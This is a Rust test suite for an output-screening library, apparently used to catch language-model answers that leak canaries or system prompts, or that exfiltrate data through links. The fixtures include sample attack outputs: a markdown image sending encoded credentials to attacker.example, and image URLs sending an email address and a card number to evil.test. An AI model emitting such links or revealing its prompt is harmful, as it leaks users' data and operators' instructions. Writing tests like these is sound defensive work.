//! Output screening: canaries, system-prompt leakage, exfiltration links, PII in answers.

use promptfence::output::scan_output;
use promptfence::{generate_canary, Category, Engine, OutputOptions, Verdict};

fn ids(text: &str, opts: &OutputOptions) -> Vec<String> {
    scan_output(text, opts)
        .into_iter()
        .map(|f| f.rule_id)
        .collect()
}

#[test]
fn canary_in_the_answer_is_reported_even_reformatted() {
    let canary = generate_canary();
    assert!(canary.starts_with("pfc-") && canary.len() == 28);
    assert_ne!(canary, generate_canary());
    let opts = OutputOptions {
        canaries: vec![canary.clone()],
        ..OutputOptions::default()
    };
    let text = format!(
        "Sure! My instructions start with {}.",
        canary.to_uppercase()
    );
    let f = scan_output(&text, &opts);
    assert_eq!(f[0].rule_id, "prompt_leak.output.canary");
    assert_eq!(&text[f[0].span.start..f[0].span.end], canary.to_uppercase());
    let spaced: String = canary.chars().flat_map(|c| [c, ' ']).collect();
    assert!(
        ids(&format!("here: {spaced}"), &opts).contains(&"prompt_leak.output.canary".to_owned())
    );
    assert!(ids("no canary here", &opts).is_empty());
}

#[test]
fn leaked_system_prompt_is_found_despite_case_and_whitespace() {
    let prompt = "You are HelpBot for Acme Bank. Never reveal account balances to anyone who has not \
                  passed two-factor verification. Always answer in a friendly tone and keep replies \
                  under one hundred words. Do not discuss competitors or interest rate forecasts.";
    let opts = OutputOptions {
        system_prompt: Some(prompt.to_owned()),
        ..OutputOptions::default()
    };
    let answer = "My instructions say:\n  you are helpbot for ACME bank.   never reveal account\nbalances to anyone who has not passed two-factor verification. always answer in a friendly tone";
    let f = scan_output(answer, &opts);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].rule_id, "prompt_leak.output.system_prompt");
    assert_eq!(f[0].category, Category::PromptLeak);
    assert!(answer[f[0].span.start..].starts_with("you are helpbot"));
    // Talking about the same topic in other words is not a leak.
    assert!(ids(
        "I can help with your Acme Bank account, after verification.",
        &opts
    )
    .is_empty());
}

#[test]
fn markdown_image_carrying_data_is_exfiltration() {
    let opts = OutputOptions::default();
    let text =
        "Done! ![x](https://attacker.example/log?d=am9obkBhY21lLmlvOnBhc3N3b3JkMTIzNDU2Nzg5)";
    assert_eq!(ids(text, &opts), ["exfiltration.output.image_with_data"]);
    let with_email = "<img src=\"https://evil.test/p?u=jane%40acme.io\">";
    let f = scan_output(with_email, &opts);
    assert!(
        f.iter()
            .any(|f| f.rule_id == "exfiltration.output.image_with_data"),
        "{f:?}"
    );
    // A plain image without data, and no allow-list: fine.
    assert!(ids("![logo](https://cdn.acme.io/logo.png)", &opts).is_empty());
}

#[test]
fn reference_links_autolinks_css_and_data_uris_are_checked() {
    let opts = OutputOptions {
        allowed_domains: vec!["acme.io".to_owned()],
        ..OutputOptions::default()
    };
    let text = "see [docs][1]\n\n[1]: https://x.evil/c?k=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFi\n";
    assert_eq!(
        ids(text, &opts),
        ["exfiltration.output.reference_with_data"]
    );
    assert_eq!(
        ids("<https://other.org/page>", &opts),
        ["exfiltration.output.external_link"]
    );
    assert_eq!(
        ids(
            "<div style=\"background:url('https://track.er/p.gif')\">",
            &opts
        ),
        ["exfiltration.output.external_image"]
    );
    assert_eq!(
        ids("[a](data:text/html;base64,PHNjcmlwdD4=)", &opts),
        ["exfiltration.output.data_uri"]
    );
    // Allowed domains and their subdomains are fine, data or not.
    assert!(ids(
        "![x](https://img.acme.io/a.png?s=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFi)",
        &opts
    )
    .is_empty());
}

#[test]
fn engine_scan_output_blocks_exfil_and_reports_pii() {
    let engine = Engine::with_defaults().unwrap();
    let report = engine
        .scan_output(
            "Your card 4539 1488 0343 6467 is on file. ![t](https://evil.test/x?c=4539148803436467)",
            &OutputOptions::default(),
        )
        .unwrap();
    assert_eq!(report.verdict, Verdict::Block);
    assert_eq!(
        report.findings[0].rule_id,
        "exfiltration.output.image_with_data"
    );
    assert!(report
        .findings
        .iter()
        .any(|f| f.rule_id == "pii.credit_card"));
}

#[test]
fn html_tag_and_attribute_names_are_read_in_any_case() {
    let opts = OutputOptions::default();
    let f = scan_output("<IMG SRC=\"https://evil.test/p?u=jane%40acme.io\">", &opts);
    assert!(
        f.iter()
            .any(|f| f.rule_id == "exfiltration.output.image_with_data"),
        "{f:?}"
    );
    let opts = OutputOptions {
        allowed_domains: vec!["acme.io".to_owned()],
        ..OutputOptions::default()
    };
    assert_eq!(
        ids(
            "<div style=\"background:URL('https://track.er/p.gif')\">",
            &opts
        ),
        ["exfiltration.output.external_image"]
    );
}
